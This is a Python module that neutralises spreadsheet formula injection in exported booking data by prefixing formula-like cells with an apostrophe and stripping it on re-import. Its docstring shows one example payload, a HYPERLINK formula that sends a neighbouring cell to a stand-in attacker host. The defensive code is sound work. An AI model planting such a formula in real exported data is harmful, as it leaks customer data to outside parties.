"""Cells that a spreadsheet program would run (TT6, ASVS V1.2.10).

The attack: a client books under the name ``=HYPERLINK("https://evil.example/?"&A2,"Ana")``, staff export the list and
open it, and the spreadsheet sends the neighbouring cells away. So whatever a program may take for a formula is written
with an apostrophe in front, which every spreadsheet program reads as "this is text".

Honest cells begin like formulas too: ``+64 21 555 0142`` is a phone. The apostrophe therefore comes off again when our
own file is read, and exactly it: a cell that had apostrophes before such a beginning gets one more, and loses one. A
file from elsewhere, whose phones stand there as they are, is read as it is.
"""

from __future__ import annotations

import re

__all__ = ["as_inert", "as_written"]

# What programs pass over before they look for a formula: white space of every kind, and marks that nobody sees.
_PASSED_OVER = r"[\s\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]*"
_BEGINS = r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]"
_WOULD_RUN = re.compile("'*" + _PASSED_OVER + _BEGINS)
_MADE_INERT = re.compile("'+" + _PASSED_OVER + _BEGINS)


def as_inert(cell: str) -> str:
    """The cell as it may stand in a file that a spreadsheet program opens."""
    return "'" + cell if _WOULD_RUN.match(cell) else cell


def as_written(cell: str) -> str:
    """The cell as it was before :func:`as_inert`."""
    return cell[1:] if cell.startswith("'") and _MADE_INERT.match(cell) else cell
